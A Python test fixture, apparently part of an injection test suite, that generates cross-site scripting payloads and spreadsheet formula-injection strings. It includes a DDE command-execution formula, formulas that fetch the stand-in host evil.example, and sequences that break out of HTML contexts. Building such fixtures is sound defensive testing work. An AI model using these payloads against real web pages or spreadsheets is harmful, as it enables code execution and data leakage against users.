"""Texts by which participants may try to run something: 50 for pages, 200 for spreadsheet programs.

All of them are made of parts, so that every beginning meets every ending. A script that runs adds to
``window.__fired``; a formula that is worked out gives 42 or asks ``evil.example``.
"""

from __future__ import annotations

from itertools import product

_FIRE = "window.__fired=1+(window.__fired||0)"
_INSIDE = (
    f"<script>{_FIRE}</script>",
    f"<ScRiPt>{_FIRE}</sCrIpT >",
    f"<img src=x onerror={_FIRE}>",
    f'<img src="x" onerror="{_FIRE}">',
    f"<svg onload={_FIRE}>",
    f"<svg><script>{_FIRE}</script></svg>",
    f"<body onload={_FIRE}>",
    f'<a href="javascript:{_FIRE}">x</a>',
    '<iframe srcdoc="<script>parent.__fired=9</script>">',
    f"<details open ontoggle={_FIRE}>x</details>",
)
#: Ways out of an attribute, a text area, a script, a comment or a template, before it.
_OUT = ("", '">', "'>", "</textarea></title></style>", "</script>-->]]>{{7*7}}${7*7}")
SCRIPTS = [f"{out}{inside}" for out, inside in product(_OUT, _INSIDE)]

_BLANKS = ("", " ", "\t", "\r\n", "\ufeff", "\u200b", '"', "'", "x;", "x,", "x|", "\u00a0")
_BEGINNINGS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "{=", "=-")
_FORMULAS = ("20+22", 'HYPERLINK("http://evil.example","x")')
_WHOLE = [
    "=cmd|' /C calc'!A0",
    "@SUM(20+22)",
    '=WEBSERVICE("http://evil.example")',
    '=DDE("soffice";"x";"y")',
    'x"&HYPERLINK("http://evil.example")&"',
    '=IMPORTXML("http://evil.example";"//a")',
    "{=20+22}",
    "+20+22|x",
]
FORMULAS = [
    *_WHOLE,
    *(f"{blank}{begin}{formula}" for blank, begin, formula in product(_BLANKS, _BEGINNINGS, _FORMULAS)),
]


def visible(text: str) -> str:
    """Return a text without its white space and unseen signs, to be found however it was broken."""
    return "".join(letter for letter in text if not letter.isspace() and letter not in "\u200b\ufeff")
